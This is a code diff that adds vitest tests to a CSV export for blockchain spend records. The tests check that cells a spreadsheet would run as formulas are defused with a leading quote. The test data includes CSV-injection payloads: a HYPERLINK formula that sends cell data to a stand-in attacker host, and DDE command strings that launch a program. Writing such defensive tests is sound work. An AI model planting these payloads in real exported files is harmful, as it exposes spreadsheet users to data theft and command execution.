@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest'
-import { SPEND_CSV_COLUMNS, spendsToCsv } from './csv'
+import { parse } from 'csv-parse/sync'
+import { defuseFormula, SPEND_CSV_COLUMNS, spendsToCsv, toCsv } from './csv'
 import type { Spend } from './types'
 
 const ref = (chain: string, block: number, index: number, ts: string) => ({ id: `${chain}-${block}-${index}`, chain, blockNumber: block, eventIndex: index, timestamp: ts })
@@ -44,5 +45,57 @@ describe('spendsToCsv', () => {
 
   it('writes only the header for no spends', () => {
     expect(spendsToCsv([])).toBe(SPEND_CSV_COLUMNS.join(',') + '\n')
+  })
+})
+
+describe('CSV cells a spreadsheet would run as formulas', () => {
+  const parseCsv = (csv: string) => parse(csv, { columns: true, relax_column_count: false }) as Record<string, string>[]
+
+  // What an attacker controls: the beneficiary text (soon also identities and remarks)
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    '+1+cmd|\' /C calc\'!A0',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+    '＝1+1', // full-width equals sign, evaluated by some spreadsheets too
+  ]
+
+  it('prefixes each leading =, +, -, @, tab and carriage return with a single quote, and keeps quoting exact', () => {
+    const csv = spendsToCsv(hostile.map((beneficiary, i) => ({ ...spend, id: `relay-local-${i}`, index: i, beneficiary })))
+    const rows = parseCsv(csv)
+    expect(rows.map((r) => r.beneficiary)).toEqual(hostile.map((h) => `'${h}`))
+    // every other cell of those rows is untouched
+    expect(rows.map((r) => [r.index, r.amount_planck, r.amount])).toEqual(hostile.map((_, i) => [String(i), '12345678901234', '1234.5678901234']))
+    // quotes doubled inside a quoted field, so the formula text cannot break out of its cell
+    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
+    expect(csv).toContain(`,"'\r=1+1",`)
+  })
+
+  it('leaves harmless text alone, also with embedded quotes, commas and newlines', () => {
+    const texts = ['Alice "the payer", Inc.', 'line one\nline two', 'cr\r=1+1', 'a=b', 'x-1', " '=already quoted", '']
+    const csv = toCsv(['text'], texts.map((t) => [t]))
+    expect(parseCsv(csv).map((r) => r.text)).toEqual(texts)
+    // a carriage return inside a cell is quoted, so no spreadsheet starts a new row (and a formula) after it
+    expect(csv).toContain('\n"cr\r=1+1"\n')
+  })
+
+  it('keeps negative and positive numbers as numbers: strings of digits, numbers and bigints', () => {
+    const csv = toCsv(['planck', 'units', 'number', 'bigint'], [
+      ['-12345678901234', '-1234.5678901234', -42, -(10n ** 30n)],
+      ['0', '0.5', 7.25, 10n ** 20n],
+    ])
+    expect(csv).toBe('planck,units,number,bigint\n-12345678901234,-1234.5678901234,-42,-1000000000000000000000000000000\n0,0.5,7.25,100000000000000000000\n')
+  })
+
+  it('a negative spend amount stays a number in both amount columns', () => {
+    const [row] = parseCsv(spendsToCsv([{ ...spend, amount: '-12345678901234' }]))
+    expect([row.amount_planck, row.amount]).toEqual(['-12345678901234', '-1234.5678901234'])
+  })
+
+  it('defuseFormula on each leading character', () => {
+    expect(['=1', '+1', '-x', '@x', '\tx', '\rx'].map(defuseFormula)).toEqual(["'=1", "'+1", "'-x", "'@x", "'\tx", "'\rx"])
+    expect(['-1', '-0.25', '1e5', 'DOT'].map(defuseFormula)).toEqual(['-1', '-0.25', '1e5', 'DOT'])
   })
 })
